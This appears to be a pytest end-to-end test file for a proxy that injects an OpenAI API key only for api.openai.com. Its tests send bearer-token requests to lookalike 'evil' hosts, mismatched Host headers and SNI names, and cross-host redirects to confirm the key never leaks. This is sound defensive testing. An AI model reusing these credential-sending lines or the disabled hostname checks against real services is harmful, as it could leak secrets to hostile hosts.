"""Where the credential must NOT go, and what the run leaves behind."""

from __future__ import annotations

import json
import os
import sys
import textwrap

import pytest

from .scenario import OPENAI_KEY

pytestmark = pytest.mark.e2e
PY = sys.executable


def python_child(code: str) -> list[str]:
    return [PY, "-c", textwrap.dedent(code)]


def assert_key_only_at_openai(result) -> None:
    for record in result.records:
        if OPENAI_KEY in json.dumps(record):
            assert record["sni"] == "api.openai.com" and record["host"] == "api.openai.com", record
    assert OPENAI_KEY not in result.stdout + result.stderr


def test_unmatched_host_is_tunnelled_with_its_own_certificate(run_in_netns, pki):
    # Trusting only the test CA: succeeds only if the upstream's own certificate arrives.
    result = run_in_netns(["curl", "-sS", "--fail", "--cacert", pki["ca"], "https://unmatched.example/echo"])
    assert result.status == 0, result.stderr
    [record] = result.records
    assert record["sni"] == "unmatched.example" and record["authorization"] is None
    assert result.audit == []


def test_lookalike_hosts_get_no_credential(run_in_netns):
    script = (
        "for h in api.openai.com.evil.test evil-api.openai.com; do "
        'curl -sS --fail -H "Authorization: Bearer $OPENAI_API_KEY" https://$h/echo || exit 1; done'
    )
    result = run_in_netns(["sh", "-c", script])
    assert result.status == 0, result.stderr
    assert len(result.records) == 2
    assert all(r["authorization"] == "Bearer authsome-proxy-managed" for r in result.records)
    assert result.audit == []
    assert_key_only_at_openai(result)


def test_host_header_mismatch_gets_no_credential(run_in_netns):
    result = run_in_netns(["curl", "-sS", "--fail", "-H", "Host: evil-api.openai.com", "https://api.openai.com/echo"])
    assert result.status == 0, result.stderr
    [record] = result.records
    assert record["host"] == "evil-api.openai.com" and record["authorization"] is None
    assert result.audit == []


def test_sni_mismatch_gets_no_credential(run_in_netns):
    # CONNECT api.openai.com, but TLS names another host. Only the host-name check
    # is relaxed here (the chain is still verified): the proxy must notice.
    code = """
        import base64, os, socket, ssl
        from urllib.parse import urlsplit
        proxy = urlsplit(os.environ["HTTPS_PROXY"])
        s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
        token = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
        s.sendall(f"CONNECT api.openai.com:443 HTTP/1.1\\r\\nHost: api.openai.com:443\\r\\nProxy-Authorization: Basic {token}\\r\\n\\r\\n".encode())
        assert s.recv(4096).startswith(b"HTTP/1.1 200")
        ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        ctx.check_hostname = False
        t = ctx.wrap_socket(s, server_hostname="evil-api.openai.com")
        t.sendall(b"GET /echo HTTP/1.1\\r\\nHost: api.openai.com\\r\\nConnection: close\\r\\n\\r\\n")
        data = b""
        while chunk := t.recv(65536):
            data += chunk
        print(data.split(b"\\r\\n")[0].decode())
    """
    result = run_in_netns(python_child(code))
    assert result.status == 0, result.stderr
    assert result.stdout.strip() == "HTTP/1.1 200"
    [record] = result.records
    assert record["authorization"] is None
    assert result.audit == []


def test_cross_host_redirect_carries_no_credential(run_in_netns):
    code = """
        import requests
        r = requests.get("https://api.openai.com/redirect")
        print(r.status_code, r.url)
    """
    result = run_in_netns(python_child(code))
    assert result.status == 0, result.stderr
    assert result.stdout.split() == ["200", "https://evil-api.openai.com/capture"]
    first, second = result.records
    assert first["authorization"] == f"Bearer {OPENAI_KEY}"
    assert second["host"] == "evil-api.openai.com" and second["authorization"] is None
    assert_key_only_at_openai(result)


def test_plain_http_to_provider_is_refused_and_other_hosts_relayed(run_in_netns):
    script = (
        'curl -sS -o /dev/null -w "%{http_code}\\n" http://api.openai.com/v1/models; '
        'curl -sS -o /dev/null -w "%{http_code}\\n" http://unmatched.example/plain'
    )
    result = run_in_netns(["sh", "-c", script])
    assert result.stdout.split() == ["403", "200"], result.stderr
    [record] = result.records
    assert record["scheme"] == "http" and record["host"] == "unmatched.example"
    assert record["authorization"] is None


def test_proxy_requires_the_run_credentials(run_in_netns):
    code = """
        import base64, os, socket
        from urllib.parse import urlsplit
        proxy = urlsplit(os.environ["HTTPS_PROXY"])
        def status(auth):
            s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
            head = "CONNECT api.openai.com:443 HTTP/1.1\\r\\nHost: api.openai.com:443\\r\\n"
            if auth:
                head += "Proxy-Authorization: Basic " + base64.b64encode(auth.encode()).decode() + "\\r\\n"
            s.sendall((head + "\\r\\n").encode())
            return s.recv(4096).split(b" ")[1].decode()
        print(status(None), status("authsome:wrong"), status(f"{proxy.username}:{proxy.password}"))
    """
    result = run_in_netns(python_child(code))
    assert result.status == 0, result.stderr
    assert result.stdout.split() == ["407", "407", "200"]


def test_exit_status_and_cleanup(run_in_netns):
    result = run_in_netns(["sh", "-c", 'echo "$SSL_CERT_FILE"; test -r "$SSL_CERT_FILE" && exit 7'])
    assert result.status == 7
    bundle = result.stdout.strip()
    assert bundle.endswith("ca-bundle.pem")
    assert not os.path.exists(bundle) and not os.path.exists(os.path.dirname(bundle))


def test_killed_child_reports_signal_and_leaves_nothing(run_in_netns):
    result = run_in_netns(["sh", "-c", 'echo "$SSL_CERT_FILE"; kill -TERM $$'])
    assert result.status == 128 + 15
    bundle = result.stdout.strip()
    assert bundle.endswith("ca-bundle.pem") and not os.path.exists(os.path.dirname(bundle))


@pytest.mark.parametrize("signame", ["SIGTERM", "SIGINT", "SIGHUP"])
def test_signals_reach_the_child(spawn_in_netns, signame):
    import signal

    script = f'trap "echo got-{signame}; exit 3" {signame[3:]}; echo ready; while :; do sleep 0.05; done'
    proc, scenario = spawn_in_netns(["sh", "-c", script])
    assert proc.stdout.readline().strip() == "ready"
    proc.send_signal(getattr(signal, signame))
    stdout, stderr = proc.communicate(timeout=30)
    result = scenario.outcome(proc.returncode, stdout, stderr)
    assert stdout.strip() == f"got-{signame}"
    assert result.status == 3 and proc.returncode == 0


def test_child_environment_holds_placeholders_and_one_trust_bundle(run_in_netns, pki):
    unlocking = {"AUTHSOME_PASSPHRASE": "pass-phrase-1234", "VAULT_TOKEN": "hvs.vault-token-1234", "BAO_TOKEN": "b-1"}
    code = """
        import json, os
        env = dict(os.environ)
        env["bundle"] = open(os.environ["SSL_CERT_FILE"]).read()
        print(json.dumps(env))
    """
    presets = {name: "/etc/ssl/certs/ca-certificates.crt" for name in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE")}
    result = run_in_netns(python_child(code), extra_env={**unlocking, **presets, "SSL_CERT_DIR": "/etc/ssl/certs"})
    assert result.status == 0, result.stderr
    env = json.loads(result.stdout)
    assert env["OPENAI_API_KEY"] == env["ANTHROPIC_API_KEY"] == "authsome-proxy-managed"
    assert not [k for k in env if k.startswith(("AUTHSOME_", "VAULT_", "BAO_"))]
    assert "SSL_CERT_DIR" not in env
    bundle_vars = [
        "SSL_CERT_FILE",
        "REQUESTS_CA_BUNDLE",
        "CURL_CA_BUNDLE",
        "GIT_SSL_CAINFO",
        "NODE_EXTRA_CA_CERTS",
        "AWS_CA_BUNDLE",
        "GRPC_DEFAULT_SSL_ROOTS_FILE_PATH",
        "HTTPLIB2_CA_CERTS",
    ]
    assert {env[name] for name in bundle_vars} == {env["SSL_CERT_FILE"]}
    assert env["SSL_CERT_FILE"].endswith("/ca-bundle.pem")
    assert "PRIVATE KEY" not in env["bundle"]
    # System trust + the extra (test) CA + the run's CA, all in one file.
    assert open(pki["ca"]).read().strip() in env["bundle"]
    assert env["bundle"].count("BEGIN CERTIFICATE") > 3
    assert env["HTTPS_PROXY"] == env["https_proxy"] == env["HTTP_PROXY"] == env["http_proxy"]
    assert env["NO_PROXY"] == "localhost,127.0.0.1,::1"
    dumped = result.stdout
    for secret in [OPENAI_KEY, *unlocking.values()]:
        assert secret not in dumped


LOOKALIKES = ["https://api.openai.com.evil.test/echo", "https://evil-api.openai.com/echo"]
PER_CLIENT = {
    "requests": """
        import os, sys, requests
        auth = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
        for url in sys.argv[2:4]:
            print(requests.get(url, headers=auth).status_code)
        print(requests.get("https://unmatched.example/echo", verify=sys.argv[1]).status_code)
    """,
    "httpx": """
        import os, ssl, sys, httpx
        auth = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
        for url in sys.argv[2:4]:
            print(httpx.get(url, headers=auth).status_code)
        print(httpx.get("https://unmatched.example/echo", verify=ssl.create_default_context(cafile=sys.argv[1])).status_code)
    """,
    "aiohttp": """
        import asyncio, os, ssl, sys, aiohttp
        async def main():
            auth = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
            async with aiohttp.ClientSession(trust_env=True) as s:
                for url in sys.argv[2:4]:
                    async with s.get(url, headers=auth) as r:
                        print(r.status)
                only_test_ca = ssl.create_default_context(cafile=sys.argv[1])
                async with s.get("https://unmatched.example/echo", ssl=only_test_ca) as r:
                    print(r.status)
        asyncio.run(main())
    """,
}


@pytest.mark.parametrize("client", [*PER_CLIENT, "node"])
def test_each_client_lookalikes_get_nothing_and_unmatched_is_tunnelled(run_in_netns, pki, client):
    if client == "node":
        js = (
            "(async () => { const auth = { Authorization: 'Bearer ' + process.env.OPENAI_API_KEY };"
            " for (const url of process.argv.slice(1)) console.log((await fetch(url, { headers: auth })).status);"
            " console.log((await fetch('https://unmatched.example/echo')).status); })()"
            ".catch((e) => { console.error(e); process.exit(3); });"
        )
        cmd = ["node", "-e", js, *LOOKALIKES]
    else:
        cmd = [*python_child(PER_CLIENT[client]), pki["ca"], *LOOKALIKES]
    result = run_in_netns(cmd)
    assert result.status == 0, result.stderr
    assert result.stdout.split() == ["200", "200", "200"]
    assert [r["sni"] for r in result.records] == [
        "api.openai.com.evil.test",
        "evil-api.openai.com",
        "unmatched.example",
    ]
    assert all(r["authorization"] in (None, "Bearer authsome-proxy-managed") for r in result.records)
    assert result.audit == []
    assert_key_only_at_openai(result)
